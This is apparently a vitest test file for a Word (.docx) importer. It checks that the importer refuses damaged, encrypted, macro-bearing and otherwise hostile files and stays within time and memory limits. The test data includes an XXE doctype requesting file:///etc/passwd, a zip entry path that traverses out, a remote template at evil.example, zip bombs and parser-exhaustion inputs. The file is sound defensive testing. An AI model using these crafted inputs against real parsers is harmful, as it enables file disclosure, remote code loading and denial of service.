import { spawn } from 'node:child_process'
import { json } from 'node:stream/consumers'
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { readDocx } from '../../functions/media/word/docx.ts'
import { compoundFile } from '../support/compound-file.ts'
import { aDocument, aDocx, p, r, style } from '../support/docx.ts'

const options = { pictureId: () => 'abcdefgh00' }
const bold = '<w:b/>'

describe('a file that is refused', () => {
  const refusal = (bytes: Uint8Array) =>
    readDocx(bytes, options).then(
      () => 'taken',
      (error) => error.code ?? String(error),
    )
  const good = aDocx({ body: p('Một') })
  const asWorkbook = (bytes: Uint8Array) => {
    const files = unzipSync(bytes)
    const types = strFromU8(files['[Content_Types].xml']!)
    const workbook = types.replace('wordprocessingml.document', 'spreadsheetml.sheet')
    return zipSync({ ...files, '[Content_Types].xml': strToU8(workbook) })
  }
  const nested = (depth: number) =>
    `${'<w:tbl><w:tr><w:tc>'.repeat(depth)}${p('x')}${'</w:tc></w:tr></w:tbl>'.repeat(depth)}`

  it.each<[string, string, Uint8Array]>([
    ['damaged', 'nothing', new Uint8Array()],
    ['damaged', 'no archive', strToU8('PK, but no archive')],
    ['damaged', 'an archive that was cut off', good.subarray(0, good.length - 40)],
    ['type_differs', 'an archive of something else', zipSync({ 'a.txt': strToU8('a') })],
    ['damaged', 'broken XML', aDocx({ body: '<w:p>' })],
    [
      'damaged',
      'a document type with entities',
      aDocx({ document: `<!DOCTYPE x [<!ENTITY a "b">]>${aDocument('')}` }),
    ],
    [
      'damaged',
      'a document type that asks for a file',
      aDocx({ document: `<!DOCTYPE x SYSTEM "file:///etc/passwd">${aDocument('')}` }),
    ],
    ['damaged', 'an entity of its own', aDocx({ body: '<w:p><w:r><w:t>&a;</w:t></w:r></w:p>' })],
    [
      'damaged',
      'letters that are no UTF-8',
      aDocx({ document: new Uint8Array([0x3c, 0x61, 0xff, 0xfe, 0x3e]) }),
    ],
    ['too_complex', '20,000 tables in each other', aDocx({ body: nested(20_000) })],
    ['too_complex', 'a million elements', aDocx({ body: '<w:p/>'.repeat(1_000_000) })],
    ['too_complex', 'a book', aDocx({ body: p('chữ '.repeat(150_000)) })],
    ['archive_size', 'a part that unpacks to much', aDocx({ document: new Uint8Array(30_000_000) })],
    [
      'archive_size',
      'an archive that unpacks to much',
      aDocx({ files: { 'word/media/x': new Uint8Array(201_000_000) } }),
    ],
    [
      'archive_count',
      '20,000 entries',
      aDocx({ files: Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`${i}`, ''])) }),
    ],
    ['archive_entry', 'a name that leads out', aDocx({ files: { '../../etc/x': 'x' } })],
    ['damaged', 'a second document behind the first', aDocx({ body: '</w:body></w:document><a/>' })],
    ['damaged', 'a prefix of no namespace', aDocx({ body: '<x:p/>' })],
    [
      'too_complex',
      'more elements in all parts together than one may have',
      aDocx({ body: '<w:p/>'.repeat(130_000), header: '<w:p/>'.repeat(130_000) }),
    ],
    ['type_differs', 'another document of Office', asWorkbook(good)],
    ['macros', 'macros', aDocx({ files: { 'word/vbaProject.bin': 'x' } })],
    [
      'macros',
      'a type for macros',
      aDocx({
        types:
          '<Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      }),
    ],
    [
      'remote_template',
      'a template from elsewhere, which brings its programs',
      aDocx({
        files: {
          'word/_rels/settings.xml.rels': `<Relationships xmlns="urn:r"><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
        },
      }),
    ],
  ])('is %s: %s', async (code, _what, bytes) => {
    expect(await refusal(bytes)).toBe(code)
  })

  it('is one that was locked', async () => {
    const locked = Buffer.from(good)
    // The bit of encryption in the directory's first entry.
    locked[locked.indexOf(Buffer.from('PK\x01\x02', 'latin1')) + 8]! |= 1
    expect(await refusal(locked)).toBe('encrypted')
  })

  const fib = Buffer.alloc(512)
  fib.writeUInt16LE(0xa5ec)

  it.each<[string, string, Record<string, Uint8Array>]>([
    [
      'encrypted',
      'a password locks, which makes another container of it',
      { EncryptedPackage: good, EncryptionInfo: fib },
    ],
    ['type_differs', 'an old Word wrote, under a new name', { WordDocument: fib }],
    ['macros', 'an old Word wrote, with macros', { WordDocument: fib, 'Macros/VBA/dir': fib }],
  ])('is %s: one that %s', async (code, _what, streams) => {
    expect(await refusal(compoundFile(streams))).toBe(code)
  })

  it('is not one with tables as deep as people make them', async () => {
    expect(await refusal(aDocx({ body: nested(20) }))).toBe('taken')
  })

  it('says so whatever byte of it is wrong', async () => {
    const { length } = good
    for (let at = 0; at < length; at += 7) {
      const changed = Uint8Array.from(good)
      changed[at]! ^= 0x55
      expect(await refusal(changed)).toMatch(
        /^(?:taken|damaged|archive_\w+|encrypted|type_differs|macros|polyglot)$/,
      )
      expect(await refusal(good.subarray(0, at))).toBe('damaged')
    }
  })
})

interface Effort {
  outcome: string
  seconds: number
  megabytes: number
}

/** Imports in a process of its own, with the memory of a small function. */
async function effortOf(bytes: Uint8Array): Promise<Effort> {
  const args = ['--max-old-space-size=300', 'tests/support/import-docx.ts']
  const child = spawn(process.execPath, args, { stdio: ['pipe', 'pipe', 'inherit'] })
  child.stdin.end(bytes)
  return json(child.stdout) as Promise<Effort>
}

const many = (count: number, write: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => write(index)).join('')

/** What does not pack well, or archives would be refused for packing too well. */
const mixed = (index: number) => ((index * 2_654_435_761) % 4_294_967_296).toString(36)

describe('a file that is made to hurt', () => {
  it.each<[string, () => Uint8Array, outcome: RegExp]>([
    [
      'as much text as one part may hold',
      () => aDocx({ body: p(many(4_000_000, (i) => (i % 100 ? 'ế ' : mixed(i)))) }),
      /^too_complex$/,
    ],
    // The parser keeps each of these in a piece of its own.
    [
      'ends of lines and nothing else',
      () => aDocx({ body: p(r(`${'\r'.repeat(19_000_000)}${many(20_000, mixed)}`)) }),
      /^too_complex$/,
    ],
    [
      'ends of lines in many paragraphs',
      () => aDocx({ body: many(200, (i) => p(r('\r'.repeat(90_000) + many(300, (j) => mixed(i + j))))) }),
      /^too_complex$/,
    ],
    [
      'a comment of dashes',
      () => aDocx({ body: `<!--${'- '.repeat(9_500_000)}${many(20_000, mixed)}-->` }),
      /^too_complex$/,
    ],
    [
      'as many attributes as elements may have',
      () =>
        aDocx({
          body: many(
            4000,
            (i) => `<w:p ${many(480, (j) => `w:a${j}="" `)} b="${many(9, (j) => mixed(i + j))}"/>`,
          ),
        }),
      /^too_complex$/,
    ],
    [
      'headers as large as the text',
      () => {
        const names = Array.from({ length: 12 }, (_, i) => `header${i}.xml`)
        const content = many(240_000, (i) => (i % 16 ? '<w:p/>' : `<w:p b="${mixed(i)}"/>`))
        const root = `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${content}</w:hdr>`
        const relation = (name: string) =>
          `<Relationship Id="${name}" Type="http://x/header" Target="${name}"/>`
        const links = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${names.map(relation).join('')}</Relationships>`
        const files = Object.fromEntries(names.map((name) => [`word/${name}`, root]))
        return aDocx({ body: p('x'), files: { ...files, 'word/_rels/document.xml.rels': links } })
      },
      /^too_complex$/,
    ],
    [
      'as many runs as a part may hold',
      () => aDocx({ body: `<w:p>${many(60_000, (i) => r('a', i % 2 ? bold : ''))}</w:p>` }),
      /^too_complex$/,
    ],
    ['paragraphs that say nothing', () => aDocx({ body: '<w:p/>'.repeat(249_000) }), /^taken$/],
    [
      'text boxes in text boxes',
      () => {
        const box = [
          '<w:p><w:r><w:drawing><wp:anchor><w:txbxContent>',
          '</w:txbxContent></wp:anchor></w:drawing></w:r></w:p>',
        ] as const
        return aDocx({ body: box[0].repeat(15) + '<w:p><w:r/></w:p>'.repeat(80_000) + box[1].repeat(15) })
      },
      /^taken$/,
    ],
    [
      'fields that open and never close',
      () => {
        const open = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>   </w:instrText></w:r>'
        return aDocx({ body: `<w:p>${open.repeat(40_000)}${r('a').repeat(10_000)}</w:p>` })
      },
      /^taken$/,
    ],
    [
      'one long note, referred to from everywhere',
      () =>
        aDocx({
          footnotes: `<w:footnote w:id="1">${p('n'.repeat(100_000))}</w:footnote>`,
          body: p('<w:r><w:footnoteReference w:id="1"/></w:r>').repeat(8000),
        }),
      /^taken$/,
    ],
    [
      'styles that are based on each other',
      () =>
        aDocx({
          styles: many(40_000, (i) => style(`s${i}`, `${i}`, `<w:basedOn w:val="s${(i + 1) % 40_000}"/>`)),
          body: many(9000, (i) => p('a', `s${i}`)),
        }),
      /^taken$/,
    ],
  ])(
    'with %s takes less than 512 MB and few seconds',
    async (_what, make, outcome) => {
      const effort = await effortOf(make())
      expect(effort.outcome).toMatch(outcome)
      // Seconds of work, not of waiting: twice what is promised, because processors differ.
      expect(effort.seconds).toBeLessThan(10)
      expect(effort.megabytes).toBeLessThan(512)
    },
    60_000,
  )
})
